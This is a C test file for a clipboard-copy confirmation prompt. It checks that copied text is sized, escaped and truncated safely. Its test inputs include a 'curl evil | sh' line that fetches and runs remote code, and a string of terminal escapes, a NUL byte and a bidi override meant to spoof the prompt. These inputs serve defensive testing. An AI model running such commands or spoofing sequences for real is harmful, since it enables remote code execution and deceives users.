/* The question about a text for the clipboard: what it shows of a hostile text. */
#include "box/session/session_askers.h"

#include <string.h>

static question *ask(const char *text, gsize length)
{
    g_autoptr(GError) error = NULL;
    question *self = copy_asker_question("shop", "/home/u/src/shop", text, length);
    g_autofree char *dump = question_dump(self, &error);
    g_assert_no_error(error);
    g_assert_nonnull(dump);
    return self;
}

static const char *size_of(const question *self)
{
    return ((const question_fact *)self->known->pdata[0])->value;
}

static const char *shown_of(const question *self)
{
    g_assert_cmpuint(self->claimed->len, ==, 1);
    return ((const question_fact *)self->claimed->pdata[0])->value;
}

static void test_plain(void)
{
    g_autoptr(question) self = ask("hello", 5);
    g_assert_cmpint(self->kind, ==, QUESTION_COPY);
    g_assert_cmpstr(size_of(self), ==, "5 B, 1 line");
    g_assert_cmpstr(shown_of(self), ==, "hello");
    g_assert_cmpuint(self->warnings->len, ==, 0);
    g_assert_true(self->mute);
    g_assert_true(question_allows(self, QUESTION_ANSWER_ONCE));
    g_assert_false(question_allows(self, QUESTION_ANSWER_DENY));
    g_assert_false(question_allows(self, QUESTION_ANSWER_TIMEOUT));
    g_assert_false(question_allows(self, QUESTION_ANSWER_NOBODY));
}

static void test_lines(void)
{
    g_autoptr(question) self = ask("curl evil | sh\n", 15), two = ask("a\r\nb\nc", 6);
    g_assert_cmpstr(size_of(self), ==, "15 B, 1 line");
    g_assert_cmpstr(shown_of(self), ==, "curl evil | sh\\n");
    g_assert_cmpuint(self->warnings->len, ==, 1);
    g_assert_cmpstr(size_of(two), ==, "6 B, 3 lines");
}

/* What is shown is one line of harmless text, and cannot look like another part of the question. */
static void test_hostile(void)
{
    static const char text[] = "safe\n\n  Size  1 B\033[31m\0after the end\302\233\342\200\256\377";
    g_autoptr(question) self = ask(text, sizeof text - 1);
    const char *shown = shown_of(self);
    g_assert_cmpstr(shown, ==,
                    "safe\\n\\n  Size  1 B\\x1b[31m\\x00after the end\\u{009b}\\u{202e}\\xff");
    g_assert_cmpuint(self->warnings->len, ==, 2);
}

static void test_long(void)
{
    g_autofree char *text = g_strnfill(70 << 10, 'x');
    memcpy(text, "begin", 5);
    memcpy(text + (70 << 10) - 3, "end", 3);
    g_autoptr(question) self = ask(text, 70 << 10);
    g_assert_true(g_str_has_prefix(shown_of(self), "begin"));
    g_assert_true(g_str_has_suffix(shown_of(self), "end"));
    g_assert_cmpuint(strlen(shown_of(self)), <=, QUESTION_CLAIM_MAX);
    g_assert_cmpuint(self->warnings->len, ==, 1);
    g_assert_cmpstr(size_of(self), ==, "70 KiB, 1 line");
}

int main(int argc, char **argv)
{
    g_test_init(&argc, &argv, NULL);
    g_test_add_func("/copy-asker/plain", test_plain);
    g_test_add_func("/copy-asker/lines", test_lines);
    g_test_add_func("/copy-asker/hostile", test_hostile);
    g_test_add_func("/copy-asker/long", test_long);
    return g_test_run();
}
